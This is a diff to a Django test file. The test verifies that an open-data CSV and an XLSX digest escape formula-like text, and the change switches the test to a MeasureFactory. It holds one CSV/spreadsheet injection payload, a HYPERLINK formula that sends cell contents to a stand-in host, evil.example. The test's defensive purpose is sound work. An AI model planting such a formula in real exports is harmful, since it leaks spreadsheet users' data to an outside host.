@@ -103,17 +103,16 @@ def test_xlsx_writes_formula_like_text_as_text():
     assert cells[-1].value == -5 and cells[-1].data_type == "n"
 
 
-def test_the_open_data_csv_and_the_digest_xlsx_carry_no_live_formula(defaults, client, secretariat_hk):
+def test_the_open_data_csv_and_the_digest_xlsx_carry_no_live_formula(client, secretariat_hk):
     import io as iomod
 
     from openpyxl import load_workbook
 
-    from hkcq.registry.models import Measure
+    from hkcq.registry.tests.factories import MeasureFactory
     from hkcq.suggestions.models import Suggestion
 
     evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
-    measure = Measure.objects.order_by("pk").first()
-    Measure.objects.filter(pk=measure.pk).update(title={"en": evil, "zh-hant": evil, "zh-hans": evil})
+    MeasureFactory.create(title={"en": evil, "zh-hant": evil, "zh-hans": evil})
     csv_body = client.get("/en/open-data/measures.csv").content.decode("utf-8-sig")
     assert "'" + evil.replace('"', '""') in csv_body and "," + evil.replace('"', '""') not in csv_body
     from django.utils import timezone
